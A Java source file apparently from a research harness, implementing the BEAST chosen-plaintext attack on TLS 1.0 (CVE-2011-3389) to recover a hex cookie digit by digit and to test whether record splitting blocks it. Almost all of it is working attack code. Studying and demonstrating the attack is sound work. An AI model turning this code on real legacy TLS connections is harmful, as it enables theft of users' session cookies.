package io.github.recordsplit.beast;

import static java.nio.charset.StandardCharsets.US_ASCII;

import io.github.recordsplit.apps.CookieClient;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.IntFunction;

/**
 * BEAST as published (CVE-2011-3389; Bard 2004, Duong and Rizzo 2011), on one connection. It has
 * what such an attacker has: the encrypted records, and a script in the client that chooses paths
 * and payloads.
 *
 * <p>In TLS 1.0 the last encrypted block of a record is the next record's initialisation vector, so
 * whoever saw it can choose a first block that becomes any wanted input of the cipher. A request is
 * aligned so that a block ends with the first unknown byte of the cookie; then, digit by digit, the
 * client is made to encrypt the input that the block would have had with that digit. Equal outputs
 * confirm the digit.
 */
final class Attack {
  static final String DIGITS = "0123456789abcdef";
  static final int LENGTH = 16;

  private static final int BLOCK = Wire.BLOCK;

  private final Wire wire;
  private final Consumer<String> script;
  private final IntFunction<Character> consolation;
  private final SecureRandom random = new SecureRandom();
  private final List<Integer> confirmedAt = new ArrayList<>();
  private int payloads;
  private int whole;
  private boolean requestsAreSplit;

  /** An encrypted block, the one before it, and its plaintext without the last byte. */
  private record Target(byte[] block, byte[] before, String known) {}

  /**
   * @param script what the client is told, one step a call
   * @param consolation the true digit at a place, which the attacker is told after it failed there:
   *     so each place is a trial of its own
   */
  Attack(Wire wire, Consumer<String> script, IntFunction<Character> consolation) {
    this.wire = wire;
    this.script = script;
    this.consolation = consolation;
  }

  Loot run() throws InterruptedException {
    StringBuilder known = new StringBuilder();
    StringBuilder answer = new StringBuilder();
    for (int i = 0; i < LENGTH; i++) {
      Character digit = recover(known.toString());
      if (digit != null) {
        confirmedAt.add(payloads);
      }
      answer.append(digit == null ? DIGITS.charAt(random.nextInt(DIGITS.length())) : digit);
      known.append(digit == null ? consolation.apply(i) : digit);
    }
    return new Loot(answer.toString(), List.copyOf(confirmedAt), payloads, whole);
  }

  /**
   * Has the connection's first two payloads start with the same input of the cipher. What a
   * protection that exempts the first payload leaves open would show here: it takes two.
   *
   * @return whether the outputs are equal, so that a guess could be confirmed
   */
  boolean sameInputShows() throws InterruptedException {
    wire.awaitFinished();
    byte[] input = new byte[BLOCK];
    random.nextBytes(input);
    byte[] first = block(send("", xor(input, wire.nextIv())).get(0), 0);
    return contains(send("", xor(input, wire.nextIv())), first);
  }

  /** The digit that a match confirms; null when none did. */
  private Character recover(String known) throws InterruptedException {
    Target target = target(known);
    for (int i = 0; i < DIGITS.length(); i++) {
      if (confirms(target, DIGITS.charAt(i))) {
        return DIGITS.charAt(i);
      }
    }
    return null;
  }

  /** Has the client send a request in which the first unknown digit is the last of a block. */
  private Target target(String known) throws InterruptedException {
    while (true) {
      int gone = requestsAreSplit ? 1 : 0;
      int shortest = CookieClient.requestUpToCookie("/").length() + known.length() - gone;
      String path = "/" + "x".repeat(Math.floorMod(BLOCK - 1 - shortest, BLOCK));
      List<byte[]> records = ask("get " + path);
      if (Wire.isSplit(records) == requestsAreSplit) {
        return target(CookieClient.requestUpToCookie(path) + known, gone, records.get(gone));
      }
      requestsAreSplit = !requestsAreSplit;
    }
  }

  private static Target target(String text, int gone, byte[] record) {
    int start = text.length() - gone - (BLOCK - 1);
    String plain = text.substring(text.length() - (BLOCK - 1));
    return new Target(block(record, start), block(record, start - BLOCK), plain);
  }

  /** Where payloads are split, the guess is tried behind the first byte too. */
  private boolean confirms(Target target, char digit) throws InterruptedException {
    byte[] input = xor((target.known + digit).getBytes(US_ASCII), target.before);
    List<byte[]> records = send("", xor(input, wire.nextIv()));
    if (contains(records, target.block)) {
      return true;
    }
    return Wire.isSplit(records) && contains(send("78", xor(input, wire.nextIv())), target.block);
  }

  private List<byte[]> send(String hex, byte[] block) throws InterruptedException {
    return ask("send " + hex + HexFormat.of().formatHex(block));
  }

  private List<byte[]> ask(String step) throws InterruptedException {
    script.accept(step);
    List<byte[]> records = wire.payload();
    payloads++;
    whole += Wire.isSplit(records) ? 0 : 1;
    return records;
  }

  private static boolean contains(List<byte[]> records, byte[] wanted) {
    for (byte[] record : records) {
      for (int i = 0; i < record.length; i += BLOCK) {
        if (Arrays.equals(block(record, i), wanted)) {
          return true;
        }
      }
    }
    return false;
  }

  private static byte[] block(byte[] record, int start) {
    return Arrays.copyOfRange(record, start, start + BLOCK);
  }

  private static byte[] xor(byte[] a, byte[] b) {
    byte[] result = a.clone();
    for (int i = 0; i < BLOCK; i++) {
      result[i] ^= b[i];
    }
    return result;
  }
}
